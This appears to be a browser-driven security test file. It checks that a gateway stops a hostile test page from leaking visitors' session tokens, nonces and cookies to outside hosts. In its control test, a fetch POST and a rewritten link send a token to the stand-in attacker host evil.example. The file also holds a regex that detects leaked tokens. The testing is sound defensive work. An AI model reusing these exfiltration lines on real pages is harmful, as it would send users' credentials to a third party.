// A page in which somebody else wrote what he could: whatever the browser does with it, the visitor's token, nonces and
// session go to the gate and to listed hosts alone. Every other host is a sink that writes down what it gets.

import assert from "node:assert/strict";
import { after, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { demoPolicy, theLogHoldsNoCredential } from "../e2e/lib/gateway.mjs";
import { startBrowser } from "./lib/browser.mjs";
import { startSink } from "./lib/sink.mjs";

const sink = await startSink();
const { gateway, gate, address, visit, stop } = await startBrowser(demoPolicy(), sink.flags);
after(async () => (await stop(), sink.stop()));

// Without the page's own policy, which would forbid most of it.
const hostile = (part) => `${address}/site/SPageServer?pagename=hostile&csp=off${part ? `&part=${part}` : ""}`;
const listing = await gate.get("/site/SPageServer?pagename=hostile&part=-");
const parts = listing.json.error.replace("part is one of ", "").split(", ");

/** Everything that arrived at the sink so far, and the credentials that must not be in it, by the part that they are of. */
const arrived = [];
const secret = new Map();
function leaks(part) {
  arrived.push(...sink.take());
  const [all, mine] = [arrived.map((request) => JSON.stringify(request)), secret.get(part)];
  const spellings = (text) => [text, encodeURIComponent(text), Buffer.from(text).toString("base64").replace(/=+$/, "")];
  return all.filter((text) => /NONCE_TOKEN=[\w.-]{16}/.test(decodeURIComponent(text.replace(/%(?![0-9a-f]{2})/gi, "%25"))) || mine.some((one) => spellings(one).some((spelling) => text.includes(spelling))));
}

/** Chromium now and then does not answer while a page is on its way elsewhere. Then the part is met once more. */
async function within(what, work) {
  const late = sleep(20_000, undefined, { ref: false }).then(() => assert.fail(`${what}: nothing in 20 s`));
  return Promise.race([work, late]);
}

/** Opens the part, and does to it what a visitor could: nothing, then each thing that can be clicked or sent. */
async function meet(part, { signIn = false, abreast = 1, except = "#none" } = {}) {
  const { page: first, context } = await within("a profile", visit());
  if (signIn) {
    const form = { method: "login", v: "1.0", api_key: "demo-api-key", user_name: "jo", password: "correct horse battery staple" };
    assert.equal((await context.request.post(`${address}/site/CRConsAPI`, { form })).status(), 200);
  }
  await first.goto(hostile(part), { waitUntil: "domcontentloaded" });
  const token = await first.locator("#own").evaluate((own) => own.textContent.replace("Token of this session: ", "").trim());
  assert.match(token, /^[\w.-]{20,}$/, "the page's own tag is expanded");
  const session = (await context.cookies(address)).find(({ name }) => name === "JSESSIONID").value;
  secret.set(part, [...(secret.get(part) ?? []), token, session]);
  for (const credential of [token, session]) gateway.seen.add(credential);
  // The page's own form, with nothing in it, is sent by the page of all parts only.
  const things = ["a", "button", "[onclick]", "form:not(:has(button))"].map((one) => `${one}:not(${part ? "#legit *" : "#none"}, ${except})`).join(", ");
  const count = await within("counting", first.locator(things).count());
  await sleep(part === "refresh" ? 5500 : 150);

  const waiting = Array.from({ length: count }, (_, at) => at);
  const click = async () => {
    for (let at = waiting.shift(); at !== undefined; at = waiting.shift()) {
      const page = await within("a page", context.newPage()); // the last one may still be on its way elsewhere
      await page.goto(hostile(part), { waitUntil: "domcontentloaded" });
      const clicked = page.locator(things).nth(at).evaluate((thing) => (thing instanceof HTMLFormElement ? HTMLFormElement.prototype.requestSubmit.call(thing) : thing.click()));
      await Promise.race([clicked.catch(() => {}), sleep(2000)]);
      for (let tries = 0; tries < 10 && page.url() === hostile(part); tries++) await sleep(20);
      await Promise.race([page.close(), sleep(5000)]); // what it still does, the sink sees
    }
  };
  await Promise.all(Array.from({ length: abreast }, click));
  await Promise.race([context.close(), sleep(5000)]);
  return count;
}

test("the sink sees what is sent to it, also by a click on a link, and the search finds a token in it", async () => {
  const { page } = await visit();
  await page.goto(hostile("link"));
  secret.set("control", ["a-token-that-leaks-0123456789."]);
  await page.evaluate(() => fetch("https://evil.example/", { method: "POST", mode: "no-cors", body: "t=a-token-that-leaks-0123456789." }));
  assert.equal(leaks("control").length, 1);
  secret.set("control", ["another-token-that-leaks"]);
  await page.evaluate(() => {
    document.querySelector("main a").href = "http://evil.example:81/another-token-that-leaks";
    document.querySelector("main a").click();
  });
  await page.waitForURL("http://evil.example:81/**");
  assert.ok(leaks("control").length >= 1);
  secret.set("control", []);
  arrived.length = 0;
});

test("every part of the page alone: no token, no nonce and no session leaves, whatever is clicked", async (t) => {
  const waiting = [...parts];
  const one = async () => {
    for (let part = waiting.shift(); part !== undefined; part = waiting.shift()) await meet(part).catch(() => meet(part));
  };
  await Promise.all(Array.from({ length: 4 }, one));
  await sleep(200);
  assert.deepEqual([...secret.keys()].filter((part) => part !== "control").sort(), [...parts].sort());
  for (const part of parts) {
    await t.test(part, () => assert.deepEqual(leaks(part), []));
  }
  // What needs no click arrived, with its tag as it was; forms did not, since the page may send none there.
  assert.ok(arrived.some(({ host, url }) => host === "evil.example" && decodeURIComponent(url) === "/?t=[[S86:true]]"));
  const isPing = ({ url }) => decodeURIComponent(url).includes("[[S86:true]]");
  assert.deepEqual(arrived.filter((one) => one.method === "POST" && one.host === "evil.example" && !isPing(one)), []);
});

// Its `base` comes after what was expanded already, and would turn every address above it round.
test("all parts together, for a visitor who is signed in", async () => {
  const all = () => meet("", { signIn: true, abreast: 4 });
  const count = await all().catch(all); // Chromium sometimes stops answering while a page is on its way elsewhere
  await sleep(200);
  assert.ok(count > 40, `${count} things to click`);
  assert.deepEqual(leaks(""), []);
});

theLogHoldsNoCredential(gateway);
